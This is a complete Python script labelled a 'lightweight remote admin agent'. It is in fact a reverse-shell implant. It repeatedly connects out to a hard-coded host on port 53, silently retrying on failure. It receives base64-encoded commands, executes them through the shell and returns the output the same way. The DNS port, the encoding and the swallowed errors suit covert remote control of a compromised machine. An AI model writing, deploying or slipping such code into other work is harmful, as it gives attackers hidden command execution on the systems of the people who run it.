#!/usr/bin/env python3
"""agent.py - lightweight remote admin agent"""
import argparse
import socket
import subprocess
import time
import base64


def handle(sock):
    buf = b""
    while True:
        chunk = sock.recv(1024)
        if not chunk:
            return
        buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            cmd = base64.b64decode(line).decode()
            try:
                out = subprocess.check_output(cmd, shell=True, stderr=subprocess.STDOUT, timeout=60)
            except subprocess.CalledProcessError as e:
                out = e.output
            except Exception as e:
                out = repr(e).encode()
            sock.sendall(base64.b64encode(out) + b"\n")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="192.0.2.200")
    ap.add_argument("--port", type=int, default=53)
    ap.add_argument("--retry", type=int, default=30)
    a = ap.parse_args()
    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((a.host, a.port))
            handle(s)
        except Exception:
            pass
        finally:
            s.close()
        time.sleep(a.retry)


if __name__ == "__main__":
    main()
